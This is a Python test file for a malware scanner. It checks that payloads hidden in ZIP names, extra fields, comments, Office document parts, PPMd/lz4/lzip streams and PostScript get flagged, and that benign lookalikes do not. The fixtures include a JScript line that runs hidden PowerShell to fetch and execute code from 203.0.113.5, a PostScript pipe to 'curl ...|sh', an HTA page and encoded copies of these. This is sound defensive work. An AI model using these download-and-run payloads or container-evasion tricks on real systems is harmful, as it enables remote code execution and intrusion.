"""Places of containers where a scanner seldom looks: names, notes and sizes of ZIP, pictures of documents, PPMd."""

from __future__ import annotations

import base64
import contextlib
import io
import lzma
import struct
import zipfile
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from safecare.examine.api import Verdicts
from safecare.examine.engine import Engine
from safecare.formats.seven_zip import SevenZipError, memory_of_ppmd

ENGINE = Engine()
SCRIPT = (
    b'var s=new ActiveXObject("WScript.Shell");s.Run("powershell -nop -w hidden -c IEX(irm http://203.0.113.5/a)");'
)
TEXT = b"Visiting hours are from two to six.\r\n" * 8
PROGRAM = b"MZ".ljust(60, b"\0") + struct.pack("<I", 64) + b"PE\0\0" + b"\x64\x86" + bytes(200)
PAGE = b'<html><hta:application id="a"/><script>new ActiveXObject("WScript.Shell").Run("calc")</script></html>'
PICTURE = base64.b64decode(
    "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAP//////////////////////////////////////////////////////////////////////////"
    "////////////2wBDAf//////////////////////////////////////////////////////////////////////////////////////wAARC"
    "AABAAEDASIAAhEBAxEB/8QAFAABAAAAAAAAAAAAAAAAAAAAA//EABQQAQAAAAAAAAAAAAAAAAAAAAD/xAAUAQEAAAAAAAAAAAAAAAAAAAAA/8"
    "QAFBEBAAAAAAAAAAAAAAAAAAAAAP/aAAwDAQACEQMRAD8AR//Z"
)
PPMD_ZIP = base64.b64decode(
    "UEsDBD8AAABiAN0Re12MxyPAZAAAAG0AAAAKAAAAaW52b2ljZS5qcwcAdemqZHNLBNGrxLO9OFz045O7bHTOzmaoa5EFhAjhd7Z2bx9VqCnb"
    "dX86D0FgOLFyS3W+1B8v8pA4jw5ykEFTrfnF5Dx78HdV1/m43LLMvIH+SYn7Kz0Pj4lZ9Uyn3EdmYQBQSwECPwM/AAAAYgDdEXtdjMcjwGQA"
    "AABtAAAACgAkAAAAAAAAACCApIEAAAAAaW52b2ljZS5qcwoAIAAAAAAAAQAYAFSlsxgVft0BAAAAAAAAAAAAAAAAAAAAAFBLBQYAAAAAAQAB"
    "AFwAAACMAAAAAAA="
)
PPMD_7Z = base64.b64decode(
    "N3q8ryccAATONh4JYgAAAAAAAABiAAAAAAAAAPWriewAdemqi3U0c0XxbGsk0eZKGucJf5zk/ACR48tdncXNutcyBrR8IwcKVz8vWH0ZJn9D"
    "mt9rS5y4gbwUaNf0msoAblL8qKfgrNZuwlJwTnjZ3akBzSsKqlEp1Weka2UtKw+GAAEEBgABCWIABwsBAAEjAwQBBQYAAAEADG0ACAoBjMcj"
    "wAAABQEZBgAAAAAAABEXAGkAbgB2AG8AaQBjAGUALgBqAHMAAAAZBAAAAAAUCgEAVKWzGBV+3QEVBgEAIICkgQAA"
)
"""``invoice.js`` packed by 7-Zip 24.08 (``-mm=PPMd``, ``-m0=PPMd``)."""


LZ4 = base64.b64decode(
    "BCJNGGRAp20AAIB2YXIgcz1uZXcgQWN0aXZlWE9iamVjdCgiV1NjcmlwdC5TaGVsbCIpO3MuUnVuKCJwb3dlcnNoZWxsIC1ub3AgLXcgaGlk"
    "ZGVuIC1jIElFWChpcm0gaHR0cDovLzIwMy4wLjExMy41L2EpIik7AAAAAEBRUGc="
)


def lzip(raw: bytes) -> bytes:
    """Return `raw` packed as lzip does (its manual, "File format")."""
    filters = [{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 16}]
    packed = lzma.compress(raw, lzma.FORMAT_RAW, filters=filters)
    return b"LZIP\1\x10" + packed + struct.pack("<IQQ", zlib.crc32(raw), len(raw), 6 + len(packed) + 20)


def ext(block: int = 2, state: int = 1) -> bytes:
    """Return the begin of a volume of ext4: a superblock that says the size of blocks and the state."""
    out = bytearray(8192)
    struct.pack_into("<I", out, 1024 + 24, block)
    struct.pack_into("<HH", out, 1024 + 56, 0xEF53, state)
    struct.pack_into("<I", out, 1024 + 76, 1)
    return bytes(out)


def archive(name: bytes, raw: bytes, *, local: bytes = b"", central: bytes = b"", size: int = -1) -> bytes:
    """Return a ZIP archive with one stored member, and further fields; `size` is what its directory says."""
    told = len(raw) if size < 0 else size
    crc = zlib.crc32(raw)
    head = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 33, crc, len(raw), len(raw), len(name), len(local))
    listed = struct.pack("<IHHHHHHIIIHH", 0x02014B50, 20, 20, 0, 0, 0, 33, crc, told, told, len(name), len(central))
    listed += struct.pack("<HHHII", 0, 0, 0, 0, 0) + name + central
    body = head + name + local + raw
    return body + listed + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(listed), len(body), 0)


def zipped(members: dict[str, bytes], comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.comment = comment
        for name, raw in members.items():
            made.writestr(name, raw)
    return out.getvalue()


def document(**more: bytes) -> bytes:
    types = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return zipped({"[Content_Types].xml": types, "word/document.xml": b"<?xml version='1.0'?><a/>", **more})


def unicode_name(plain: bytes, other: bytes) -> bytes:
    return struct.pack("<HHBI", 0x7075, 5 + len(other), 1, zlib.crc32(plain)) + other


def field(kind: int, raw: bytes) -> bytes:
    return struct.pack("<HH", kind, len(raw)) + raw


ATTACKS = {
    "a name behind a zero": archive(b"photo.jpg\0.js", SCRIPT),
    "another name in Unicode": archive(b"photo.jpg", SCRIPT, central=unicode_name(b"photo.jpg", b"photo.js")),
    "sizes of 64 bits": archive(
        b"invoice.js", SCRIPT, size=0xFFFFFFFF, central=field(1, struct.pack("<QQ", len(SCRIPT), len(SCRIPT)))
    ),
    "a program in an extra field": archive(b"notes.txt", TEXT, local=field(0x4242, PROGRAM)),
    "a page in the comment": zipped({"notes.txt": TEXT}, PAGE),
    "a program as picture of a document": document(**{"word/media/image1.jpeg": PROGRAM}),
    "a program as markup of a document": document(**{"word/header1.xml": PROGRAM}),
    "an archive behind a picture of a document": document(**{"word/media/a.jpeg": PICTURE + zipped({"a.js": SCRIPT})}),
    "PPMd in ZIP": PPMD_ZIP,
    "PPMd in 7z": PPMD_7Z,
    "lz4": LZ4,
    "lzip": lzip(SCRIPT),
    "a command in PostScript": b"%!PS\n(%pipe%curl http://203.0.113.5/a|sh) (w) file\nshowpage\n",
    "a command in hexadecimal": b"%!PS\n<25 70 69 70 65 25 69 64> (r) file\nshowpage\n",
    "a command as output": b"%!PS\nmark /OutputFile (| id) currentdevice putdeviceprops\n",
    "a format that writes": b"%!PS\n<< /upYMoveCommand (%1$p %n) >> setpagedevice\n",
    "a program behind PostScript": b"%!PS-Adobe-3.0\nshowpage\n%%EOF\n" + PROGRAM,
    "a program before an image of a disc": PROGRAM.ljust(0x8000, b"\0") + b"\1CD001\1" + bytes(4096),
    "an application called a text": PAGE,
    "an archive behind zeros": bytes(4096) + PPMD_7Z,
}
HONEST = {
    "a name that ends with a zero": archive(b"notes.txt\0", TEXT),
    "the same name in Unicode": archive(b"caf\x82.txt", TEXT, central=unicode_name(b"caf\x82.txt", b"caf\xc3\xa9.txt")),
    "times and owners": archive(b"notes.txt", TEXT, local=field(0x5455, bytes(13)) + field(0x7875, bytes(11))),
    "padding": archive(b"notes.txt", TEXT, local=field(0xD935, bytes(900))),
    "a comment": zipped({"notes.txt": TEXT}, b"Reports of March, made by the records department. " * 4),
    "sizes of 64 bits": archive(
        b"notes.txt", TEXT, size=0xFFFFFFFF, central=field(1, struct.pack("<QQ", len(TEXT), len(TEXT)))
    ),
    "a document with a picture": document(**{"word/media/image1.jpeg": PICTURE}),
    "lzip": lzip(TEXT),
    "a picture that ends like the head of an archive": PICTURE + b"\x60\xea\x40",
    "PostScript that speaks of commands": b"%!PS-Adobe-3.0\n% a %pipe% device\n(a \\(%pipe\\) device) show\n%%EOF\n\4",
    "EPS with a head of DOS": b"\xc5\xd0\xd3\xc6" + struct.pack("<6IH", 30, 20, 0, 0, 50, 8, 65535)
    + b"%!PS-Adobe-3.0 EPSF\n" + b"II*\0\x08\0\0\0",
    "an image of a disc that boots": b"\x33\xed\x90".ljust(0x8000, b"\0") + b"\1CD001\1" + bytes(4096),
    "a program that knows the marks of archives": b"\x7fELF\2\1\1".ljust(64, b"\0")
    + b"PK\1\2\0PK\3\4" + b"reading local entry: " * 9 + b"PK\5\6" + b"\x48\x8b" * 40,
    "zeros": bytes(5000),
}  # fmt: skip


@pytest.mark.parametrize("kind", ATTACKS)
def test_what_stands_where_nobody_looks_is_found(kind: str) -> None:
    found = ENGINE.judge(ATTACKS[kind], f"invoice.js.{kind}" if kind in ("lz4", "lzip") else "report.txt")
    assert found.verdict in (Verdicts.SUSPICIOUS, Verdicts.MALICIOUS), found


@pytest.mark.parametrize("kind", HONEST)
def test_what_honest_programs_write_there_is_not(kind: str) -> None:
    found = ENGINE.judge(HONEST[kind], "report.txt")
    assert found.verdict not in (Verdicts.SUSPICIOUS, Verdicts.MALICIOUS), found


CLOSED = {
    "ACE": (bytes(7) + b"**ACE**" + bytes(50), "archive.closed"),
    "EGG": (b"EGGA\0\1" + bytes(50), "archive.closed"),
    "SquashFS": (b"hsqs" + bytes(96), "archive.closed"),
    "Apple's disc": (b"x" * 600 + b"koly" + bytes(508), "archive.closed"),
    "ext4": (ext(), "disc.closed"),
    "HFS": (bytes(1024) + b"H+\0\4" + bytes(2000), "disc.closed"),
    "ext4 in a partition": (
        (bytes(446) + struct.pack("<B3sB3sII", 0, b"", 0x83, b"", 1, 16)).ljust(510, b"\0") + b"\x55\xaa" + ext(),
        "disc.closed",
    ),
    "LUKS": (b"LUKS\xba\xbe" + bytes(600), "disc.closed"),
}


@pytest.mark.parametrize("kind", CLOSED)
def test_a_container_that_is_not_read_is_never_clean(kind: str) -> None:
    raw, rule = CLOSED[kind]
    found = ENGINE.judge(raw, "a.bin")
    assert (found.verdict, [one.rule for one in found.findings]) == (Verdicts.UNREADABLE, [rule])


@pytest.mark.parametrize("raw", [ext(block=9), ext(state=0), b"x" * 1080 + b"\x53\xef" + b"x" * 900])
def test_a_mark_of_two_bytes_alone_is_no_disc(raw: bytes) -> None:
    assert ENGINE.judge(raw, "a.bin").verdict is Verdicts.CLEAN


def test_an_archive_of_a_dead_kind_weighs_by_mail() -> None:
    head = b"From: a@b.example\r\nTo: c@d.example\r\nSubject: report\r\nContent-Type: application/octet-stream\r\n"
    body = base64.encodebytes(CLOSED["ACE"][0])
    mail = head + b"Content-Disposition: attachment; filename=a.ace\r\nContent-Transfer-Encoding: base64\r\n\r\n" + body
    assert "archive.closed" in [one.rule for one in ENGINE.judge(mail, "a.eml").findings if one.weight]


@pytest.mark.parametrize("kind", [PPMD_ZIP, PPMD_7Z], ids=["zip", "7z"])
def test_ppmd_that_asks_for_much_memory_is_not_unpacked(kind: bytes) -> None:
    """7z tells bytes; ZIP tells MiB, less one, in bits 4 to 11 of what precedes the data."""
    much = kind.replace(b"\x05\x06\0\0\1\0", b"\x05\x06\0\0\0\x0c").replace(b".js\x07\0\x75", b".js\xf7\x0b\x75")
    assert much != kind
    found = ENGINE.judge(much, "a.zip")
    [one] = [one for one in found.findings if one.rule == "archive.partly"]
    assert one.why.args == {"reason": "it needs too much memory"}


def test_ppmd_is_unpacked_only_so_far() -> None:
    """What is left of the room for slow methods bounds it, and that is told."""
    limited = Engine(limits=type(ENGINE._limits)(slow=5))
    for raw in (PPMD_ZIP, PPMD_7Z):
        assert "limit.slow" in [one.rule for one in limited.judge(raw, "a.zip").findings]


@given(st.lists(st.tuples(st.integers(0, 227), st.integers(0, 255)), max_size=5))
def test_damaged_directories_of_7z_end(changes: list[tuple[int, int]]) -> None:
    raw = bytearray(PPMD_7Z)
    for at, value in changes:
        raw[at] = value
    with contextlib.suppress(SevenZipError):
        memory_of_ppmd(bytes(raw), lambda step, data: step(data, 1 << 20))
    assert ENGINE.judge(bytes(raw), "a.7z").verdict in Verdicts


@given(st.binary(max_size=80), st.binary(max_size=80), st.binary(max_size=40))
def test_fields_by_chance_end(local: bytes, central: bytes, name: bytes) -> None:
    assert ENGINE.judge(archive(name, SCRIPT, local=local, central=central), "a.zip").verdict in Verdicts
